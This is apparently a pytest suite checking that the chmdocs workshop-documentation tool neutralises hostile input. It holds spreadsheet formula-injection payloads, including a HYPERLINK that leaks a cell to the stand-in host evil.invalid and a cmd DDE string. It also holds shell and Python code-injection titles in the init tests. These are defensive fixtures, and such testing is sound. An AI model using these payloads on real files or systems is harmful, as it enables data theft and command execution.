"""Input that is hostile or merely odd: never a traceback, never injected code.

Formula injection into the spreadsheets, code injection through ``init``,
control characters into the calendar, hostile ``chmdocs.json`` files,
sizes and depths no workshop has.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import icalendar
import pytest
from click.testing import CliRunner
from conftest import TESTS, html_text, pdf_text

import chmdocs
from chmdocs.app.cli import main
from chmdocs.core.exports import jsonfile

HEAD = """Workshop
========

.. workshop:: W
   :id: ws
   :start: 2030-03-30
   :end: 2030-03-31
   :timezone: Europe/Brussels

.. objective:: O
   :id: obj

"""


def project(tmp_path: Path, body: str, conf: str = "") -> Path:
    source = tmp_path / "src"
    source.mkdir(exist_ok=True)
    (source / "conf.py").write_text(f'extensions = ["chmdocs"]\nlanguage = "en"\n{conf}')
    (source / "index.rst").write_text(HEAD + body, encoding="utf-8")
    return source


FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    actions = "".join(
        f".. action:: {formula}\n   :id: a{n}\n   :objectives: obj\n"
        f"   :owner: {formula}\n   :partners: {formula}; plain\n\n"
        for n, formula in enumerate(FORMULAS)
    )
    actions += ".. action:: Harmless = 1 + 1\n   :id: calm\n   :objectives: obj\n"
    source = project(tmp_path, actions)
    data = chmdocs.export(source, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    for row, formula in zip(rows, FORMULAS, strict=False):
        assert row["title"] == "'" + formula
        assert row["owner"] == "'" + formula
        assert row["partners"] == "'" + formula + "; plain"
    assert rows[-1]["title"] == "Harmless = 1 + 1"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    "title",
    [
        "W\nimport os;os.system('touch pwned') #",
        "W\r\nproject = 'x'",
        "W\x1b[31m",
        "W\u2028import os",
    ],
)
def test_init_refuses_control_characters(tmp_path: Path, title: str) -> None:
    target = tmp_path / "new"
    result = CliRunner().invoke(
        main, ["init", str(target), "--title", title, "--start", "2030-01-01", "--timezone", "UTC"]
    )
    assert result.exit_code == 2, result.output
    assert not target.exists()
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    "title", ["Ends with a backslash \\", "$(shell touch pwned) `touch pwned`", "A'\"; x = 1 #"]
)
def test_init_values_stay_text_in_every_file(tmp_path: Path, title: str) -> None:
    target = tmp_path / "new"
    result = CliRunner().invoke(
        main,
        ["init", str(target), "--title", title, "--start", "2030-01-01", "--timezone", "UTC"],
    )
    assert result.exit_code == 0, result.output
    compile((target / "conf.py").read_text(), "conf.py", "exec")
    run = subprocess.run(
        ["make", "-n", "-C", str(target), "pdf"], capture_output=True, text=True, check=False
    )
    assert run.returncode == 0, run.stderr
    assert "build . " in run.stdout or "build" in run.stdout
    assert not (target / "pwned").exists() and not Path("pwned").exists()
    assert chmdocs.load(target).title == title


@pytest.mark.parametrize("start", ["9999-12-20", "0999-01-01"])
def test_init_with_dates_out_of_range_writes_nothing(tmp_path: Path, start: str) -> None:
    target = tmp_path / "new"
    result = CliRunner().invoke(
        main, ["init", str(target), "--start", start, "--timezone", "UTC", "--title", "T"]
    )
    assert result.exit_code == 2, result.output
    assert not target.exists()


def test_the_calendar_holds_no_control_character_and_no_backward_event(tmp_path: Path) -> None:
    body = (
        ".. session:: Bell\x07 and escape\x1b[2J and a\rbare CR\n"
        "   :id: odd\n   :date: 2030-03-30\n   :start: 09:00\n   :end: 10:00\n"
        "   :objectives: obj\n   :room: Room\x0b 1\n\n"
        ".. session:: Reception into the night\n   :id: night\n   :date: 2030-03-30\n"
        "   :start: 23:00\n   :end: 01:00\n   :kind: reception\n\n"
    )
    source = project(tmp_path, body)
    index = source / "index.rst"
    index.write_text(
        index.read_text(encoding="utf-8").replace(
            ".. workshop:: W", ".. workshop:: W\n   on two lines"
        ),
        encoding="utf-8",
    )
    data = chmdocs.export(source, "ics")
    assert not any(b in data for b in (b"\x07", b"\x1b", b"\x0b"))
    assert b"\r\n" in data and b"\r" not in data.replace(b"\r\n", b"")
    calendar = icalendar.Calendar.from_ical(data)
    assert str(calendar["x-wr-calname"]) == "W on two lines"
    for event in calendar.walk("VEVENT"):
        assert event.decoded("dtend") > event.decoded("dtstart")
    feed = json.loads(chmdocs.export(source, "schedule"))
    for day in feed["schedule"]["conference"]["days"]:
        for events in day["rooms"].values():
            assert all(not e["duration"].startswith("-") for e in events)


@pytest.mark.parametrize(
    ("content", "where"),
    [
        ('{"chmdocs": "1.0", "workshop": NaN}', "NaN"),
        ("[1, 2, 3]", "$"),
        ("{}", "$"),
        ('{"chmdocs": "1.0"}', "$"),
        ("[" * 100_000 + "]" * 100_000, "nested"),
        ("\xff\xfe not json", "not"),
    ],
)
def test_a_hostile_chmdocs_json_is_refused_with_where(
    tmp_path: Path, content: str, where: str
) -> None:
    path = tmp_path / "chmdocs.json"
    path.write_text(content, encoding="latin-1")
    result = CliRunner().invoke(main, ["export", "json", str(path), "-o", "-"])
    assert result.exit_code == 1, result.output
    assert where in result.output and "Traceback" not in result.output


@pytest.mark.parametrize(
    ("path", "value", "expected"),
    [
        (("sessions", 0, "lineno"), float("nan"), "NaN is not a JSON number"),
        (("sessions", 0, "title"), 5, "$.sessions[0].title"),
        (("sessions", 0, "speaker"), "abc", "$.sessions[0].speaker"),
        (("sessions", 0, "start"), "25:00", "$.sessions[0].start"),
        (("workshop", "start"), "2007-02-30", "$.workshop.start"),
        (("workshop", "start"), "9999-12-31", "$.workshop.start"),
        (("workshop", "timezone"), "Europe", "$.workshop.timezone"),
        (("actions", 0, "due"), "0000", "$.actions[0].due"),
    ],
)
def test_a_tampered_export_names_the_json_path(
    tmp_path: Path, path: tuple[str | int, ...], value: object, expected: str
) -> None:
    data = json.loads(chmdocs.export(TESTS / "roots" / "test-views", "json"))
    target = data
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    file = tmp_path / "chmdocs.json"
    file.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(ValueError, match=expected.replace("[", r"\[").replace("$", r"\$")):
        jsonfile.load(file)


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (
            lambda text: text.replace('"title"', '"title": "x", "title"', 1),
            "'title' is written twice",
        ),
        (lambda text: text.replace('"id"', '"id": "x", "id"', 1), "'id' is written twice"),
        (lambda text: text.replace('"workshop"', '"workshop": {}, "workshop"', 1), "'workshop'"),
    ],
    ids=["title", "id", "workshop"],
)
def test_a_key_written_twice_is_refused(tmp_path: Path, edit: Any, expected: str) -> None:
    text = chmdocs.export(TESTS / "roots" / "test-views", "json").decode("utf-8")
    file = tmp_path / "chmdocs.json"
    file.write_text(edit(text), encoding="utf-8")
    with pytest.raises(ValueError, match=expected):
        jsonfile.load(file)


@pytest.mark.parametrize("collection", ["sessions", "objectives", "actions", "groups"])
def test_two_objects_of_one_id_load_and_diff_says_which_it_compares(
    tmp_path: Path, collection: str
) -> None:
    """A build with a duplicate id warns and writes both objects: its
    chmdocs.json loads; diff says it compares the first of them."""
    data = json.loads(chmdocs.export(TESTS / "roots" / "test-views", "json"))
    twin = dict(data[collection][0], title="Twin")
    data[collection].append(twin)
    file = tmp_path / "chmdocs.json"
    file.write_text(json.dumps(data), encoding="utf-8")
    assert len(getattr(jsonfile.load(file), collection)) == len(data[collection])
    result = CliRunner().invoke(main, ["diff", str(file), str(file)])
    assert result.exit_code == 0, result.output
    assert f"with the id {twin['id']!r}: the first is compared" in result.output


def test_a_chmdocs_json_saved_with_a_byte_order_mark_loads(tmp_path: Path) -> None:
    data = chmdocs.export(TESTS / "roots" / "test-views", "json")
    file = tmp_path / "chmdocs.json"
    file.write_bytes(b"\xef\xbb\xbf" + data)
    assert jsonfile.load(file) == jsonfile.loads(data.decode("utf-8"))


def test_a_conf_py_python_cannot_compile_is_one_clear_message(tmp_path: Path) -> None:
    source = project(tmp_path, "", "project = " + "-" * 200_000 + "1\n")
    result = CliRunner().invoke(main, ["build", str(source), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert "programmable error in your configuration file" in result.output
    assert result.output.strip().splitlines()[-1].strip() in ("MemoryError", "RecursionError")


def test_a_broken_cover_template_is_a_warning_at_its_line(tmp_path: Path) -> None:
    source = project(tmp_path, "", 'templates_path = ["tpl"]\nchmdocs_documents = ["index"]\n')
    (source / "tpl").mkdir()
    (source / "tpl" / "chmdocs-cover.rst.jinja").write_text("Cover\n\n{{ nosuchthing.title }}\n")
    warnings = io.StringIO()
    chmdocs.build(source, tmp_path / "out", ["pdf"], warning=warnings)
    assert "chmdocs-cover.rst.jinja:3: WARNING: the cover template failed" in warnings.getvalue()
    (source / "tpl" / "chmdocs-cover.rst.jinja").write_text("Cover\n{% if %}\n")
    warnings = io.StringIO()
    chmdocs.build(source, tmp_path / "out", ["pdf"], warning=warnings)
    assert "chmdocs-cover.rst.jinja:2: WARNING: the cover template failed" in warnings.getvalue()
    assert "W" in pdf_text(tmp_path / "out" / "pdf" / "index.pdf")


def test_two_hundred_nested_directives_are_kept_as_text(tmp_path: Path) -> None:
    body, indent = "", ""
    for depth in range(200):
        body += f"{indent}.. group:: Level {depth}\n{indent}   :session: s\n\n"
        indent += "   "
    body += f"{indent}Deepest words.\n"
    session = (
        ".. session:: S\n   :id: s\n   :date: 2030-03-30\n   :start: 9:00\n"
        "   :end: 10:00\n   :objectives: obj\n\n"
    )
    source = project(tmp_path, session + body)
    warnings = io.StringIO()
    chmdocs.build(source, tmp_path / "out", ["html", "json"], warning=warnings)
    assert "nested more than 8 deep" in warnings.getvalue()
    assert "Deepest words." in html_text(tmp_path / "out" / "html" / "index.html")


@pytest.mark.parametrize(("size", "groups"), [(20_000, 2), (1_000_000, 2), (30, 70)])
def test_huge_titles_and_many_groups_still_make_a_pdf(
    tmp_path: Path, size: int, groups: int
) -> None:
    title = ("Titre très long " * (size // 16 + 1))[:size]
    body = (
        f".. session:: {title}\n   :id: s\n   :date: 2030-03-30\n   :start: 9:00\n   :end: 12:00\n"
        "   :kind: groupwork\n   :objectives: obj\n\n"
    )
    body += "".join(f"   .. group:: Theme {n}\n      :label: Group {n}\n\n" for n in range(groups))
    body += ".. agenda::\n"
    source = project(tmp_path, body, 'chmdocs_documents = ["index"]\n')
    warnings = io.StringIO()
    chmdocs.build(source, tmp_path / "out", ["pdf", "json"], warning=warnings)
    text = pdf_text(tmp_path / "out" / "pdf" / "index.pdf")
    assert f"Group {groups - 1}" in text
    model = chmdocs.load(tmp_path / "out" / "chmdocs.json")
    assert len(model.sessions[0].title) <= 300
    if size > 300:
        assert "[chmdocs.too-long]" in warnings.getvalue()
        assert title.strip() in model.sessions[0].description


def test_a_latin1_file_is_read_with_a_warning(tmp_path: Path) -> None:
    source = project(tmp_path, ".. toctree::\n\n   notes\n")
    (source / "notes.rst").write_bytes("Notes\n=====\n\nCafé\n".encode("latin-1"))
    shutil.copy(source / "notes.rst", source / "notes.txt")
    index = source / "index.rst"
    index.write_text(index.read_text() + "\n.. include:: notes.txt\n")
    warnings = io.StringIO()
    chmdocs.build(source, tmp_path / "out", ["html"], warning=warnings)
    assert "notes.rst:4: WARNING: notes.rst is not UTF-8 text (byte 0xe9" in warnings.getvalue()
    assert "notes.txt:4: WARNING: notes.txt is not UTF-8" in warnings.getvalue()


def test_the_cli_reports_a_sphinx_failure_without_traceback(tmp_path: Path) -> None:
    source = project(tmp_path, "", "raise SystemExit('conf.py refuses')\n")
    run = subprocess.run(
        [sys.executable, "-m", "chmdocs.app.cli", "build", str(source), "-o", str(tmp_path / "o")],
        capture_output=True,
        text=True,
    )
    assert run.returncode == 1 and "Traceback" not in run.stderr


def nested_list(levels: int) -> str:
    return "".join("  " * level + f"* level {level}\n\n" for level in range(levels))


def nested_quotes(levels: int) -> str:
    return "".join("   " * level + f"quote {level}\n\n" for level in range(levels))


@pytest.mark.parametrize(
    "deep",
    [nested_list(100), nested_list(400), nested_quotes(150), nested_list(60).replace("  ", "\t")],
    ids=["list-100", "list-400", "quotes-150", "tabs"],
)
@pytest.mark.parametrize("where", ["page", "included"])
def test_text_nested_too_deep_is_a_warning_at_its_line_and_kept(
    tmp_path: Path, deep: str, where: str
) -> None:
    body = "Deep text\n---------\n\n"
    source = project(tmp_path, body + (".. include:: _deep.inc\n" if where == "included" else deep))
    if where == "included":
        (source / "_deep.inc").write_text(deep, encoding="utf-8")
    warnings = tmp_path / "warnings.txt"
    with warnings.open("w") as stream:
        chmdocs.build(source, tmp_path / "out", ["html"], warning=stream)
    said = warnings.read_text()
    assert "Traceback" not in said and "recursion" not in said
    assert "chmdocs.too-deep" in said
    assert ("_deep.inc:" if where == "included" else "index.rst:") in said
    page = html_text(tmp_path / "out" / "html" / "index.html")
    last = deep.strip().splitlines()[-1].strip(" *\t")
    assert last in page  # the deepest words are still there


@pytest.mark.parametrize("kind", ["objective", "session", "group", "action", "participant"])
def test_a_title_written_like_an_option_is_kept_or_warned_at_its_line(
    tmp_path: Path, kind: str
) -> None:
    """docutils reads ``.. session:: :Note: bene`` as an option: a title that
    names no option of the directive is taken back as the title, one that
    names an option (or no title at all) is a warning at its line, never
    docutils' "1 argument(s) required" error."""
    body = (
        f".. {kind}:: :Nota: bene, à relire\n   :ID: {kind}-nota\n\n"
        f".. {kind}:: :id: {kind}-sans-titre\n\n"
        f".. {kind}::\n\n   Un texte sans titre.\n"
    )
    warnings = io.StringIO()
    source = project(tmp_path, body)
    chmdocs.build(source, tmp_path / "out", ["html"], warning=warnings)
    said = warnings.getvalue()
    assert "argument(s) required" not in said and "Traceback" not in said
    first = len(HEAD.splitlines()) + 1
    assert f"index.rst:{first}: WARNING: {kind}: the title ':Nota: bene, à relire'" in said
    said_of = f"index.rst:{first + 3}: WARNING: {kind}: no title: ':id: {kind}-sans-titre'"
    assert f"{said_of} after '{kind}::' is read as an option" in said
    nothing = f"index.rst:{first + 5}: WARNING: {kind}: no title: nothing is written after"
    assert nothing in said
    workshop = chmdocs.load(source)
    titles = [o.title for o in getattr(workshop, f"{kind}s")]
    assert ":Nota: bene, à relire" in titles
    # Options on the lines after the title are read as usual (:ID: in capitals too).
    assert f"{kind}-nota" in [o.id for o in getattr(workshop, f"{kind}s")]
    assert ":Nota: bene, à relire" in html_text(tmp_path / "out" / "html" / "index.html")
